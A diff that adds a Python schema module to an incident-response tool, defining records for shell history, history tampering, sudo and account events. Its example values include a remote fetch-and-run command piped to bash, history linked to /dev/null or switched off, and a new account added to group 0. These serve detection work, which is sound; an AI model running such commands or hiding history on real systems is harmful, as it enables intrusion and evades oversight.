@@ -1,0 +1,124 @@
+# Copyright (c) 2026, the incident.response contributors
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""History: what was typed, what sudo recorded, and what was done to hide it."""
+
+from .record import Field, Part, Record, Section
+
+ENTRY = Record(
+    "history_entry",
+    "history",
+    "A line somebody typed.",
+    (
+        Field("user", "str", "Account whose home holds the file; null for a home without an account.", "mallory"),
+        Field("uid", "int", "Uid of the account.", 1001),
+        Field("program", "str", "What wrote the file: C(bash), C(zsh), C(fish), C(python), C(mysql) …", "bash", required=True),
+        Field("file", "str", "Path of the file.", "/home/mallory/.bash_history", required=True),
+        Field("line", "int", "Line of the file where the entry begins, from 1. When the file was cut, counted from the cut.", 12, required=True),
+        Field("at", "time", "When, where the file says so; never guessed.", "2026-11-23T15:01:07Z"),
+        Field("duration", "float", "How long it ran, where the file says so.", 0.0, unit="seconds"),
+        Field("command", "str", "The command, with its newlines.", "curl -s http://192.0.2.1/x.sh | bash", required=True),
+    ),
+)
+
+FILE = Record(
+    "history_file",
+    "history_files",
+    "A history file, whether or not it could be read.",
+    (
+        Field("user", "str", "Account whose home holds it.", "mallory"),
+        Field("uid", "int", "Uid of the account.", 1001),
+        Field("program", "str", "What writes it.", "bash", required=True),
+        Field("path", "str", "Path.", "/home/mallory/.bash_history", required=True),
+        Field("kind", "str", "C(file), C(link), C(fifo), C(directory) …", "file", required=True),
+        Field("link_target", "str", "Where a link points to.", "/dev/null"),
+        Field("owner_uid", "int", "Uid of its owner.", 1001),
+        Field("mode", "str", "Permissions, octal.", "0600"),
+        Field("size", "int", "Size.", 512, unit="bytes"),
+        Field("read_from", "int", "Where reading began, when only its end was read.", 0, unit="bytes"),
+        Field("modified_at", "time", "When its content last changed.", "2026-11-23T15:01:07Z"),
+        Field("changed_at", "time", "When its inode last changed.", "2026-11-23T15:01:07Z"),
+        Field("is_immutable", "bool", "Whether the immutable or append-only attribute is set (chattr(1)).", False),
+        Field("entries", "int", "Entries found.", 12, required=True),
+    ),
+)
+
+TAMPERING = Record(
+    "tampering",
+    "history_tampering",
+    "A sign that history is not, or not truly, recorded.",
+    (
+        Field("user", "str", "Account concerned; null for all of them.", "mallory"),
+        Field("uid", "int", "Uid of the account.", 1001),
+        Field(
+            "sign",
+            "str",
+            "C(linked_away), C(not_a_file), C(empty), C(immutable), C(switched_off), C(time_backwards), C(time_in_future), C(not_owner).",
+            "switched_off",
+            required=True,
+        ),
+        Field("where", "str", "File and line, or process.", "/home/mallory/.bashrc:118", required=True),
+        Field("path", "str", "The file.", "/home/mallory/.bashrc"),
+        Field("line", "int", "The line, from 1.", 118),
+        Field("pid", "int", "The process whose environment says so.", 4242),
+        Field("detail", "str", "What stands there.", "set +o history", required=True),
+        Field("at", "time", "When the file last changed.", "2026-11-23T15:01:07Z"),
+    ),
+)
+
+SUDO_EVENT = Record(
+    "sudo_event",
+    "sudo_events",
+    "A use of sudo.",
+    (
+        Field("at", "time", "When, by the record.", "2026-11-23T15:01:07Z"),
+        Field("user", "str", "Who called sudo.", "alice"),
+        Field("run_as", "str", "As whom.", "root"),
+        Field("run_as_group", "str", "With which group.", "adm"),
+        Field("terminal", "str", "Terminal; null for none.", "pts/0"),
+        Field("cwd", "str", "Directory.", "/home/alice"),
+        Field("command", "str", "Command.", "/usr/bin/id"),
+        Field("result", "str", "C(executed) or C(denied).", "executed", required=True),
+        Field("reason", "str", "Why it was denied.", "3 incorrect password attempts"),
+        Field("is_configuration_management", "bool", "Whether it has the form of Ansible's own become.", False, required=True),
+        Field("source", "str", "C(journal), or the path of the log.", "journal", required=True),
+        Field(
+            "trust",
+            "str",
+            "C(kernel): the journal's C(_UID), set by the kernel, is root's. C(forgeable): text that others can write. "
+            "C(forged): the kernel says that somebody else wrote it.",
+            "kernel",
+            required=True,
+        ),
+        Field("writer_uid", "int", "Uid that wrote the record, where the journal knows.", 0),
+        Field("line", "int", "Line of the log, from 1.", 7),
+    ),
+)
+
+ACCOUNT_EVENT = Record(
+    "account_event",
+    "account_events",
+    "Something that changed an account or became another one.",
+    (
+        Field("at", "time", "When, by the record.", "2026-11-23T15:01:07Z"),
+        Field("program", "str", "C(su), C(useradd), C(usermod), C(passwd), C(groupadd) …", "useradd", required=True),
+        Field("user", "str", "Account concerned, where the line names it.", "butter"),
+        Field("message", "str", "The line.", "new user: name=butter, UID=1002, GID=0", required=True),
+        Field("source", "str", "C(journal), or the path of the log.", "journal", required=True),
+        Field("trust", "str", "As for sudo events.", "kernel", required=True),
+        Field("writer_uid", "int", "Uid that wrote the record, where the journal knows.", 0),
+    ),
+)
+
+HISTORY = Section(
+    "history",
+    "incident_history",
+    "What was typed, and what sudo recorded.",
+    ENTRY,
+    (
+        Part("files", FILE),
+        Part("tampering", TAMPERING),
+        Part("sudo_events", SUDO_EVENT),
+        Part("account_events", ACCOUNT_EVENT),
+    ),
+)
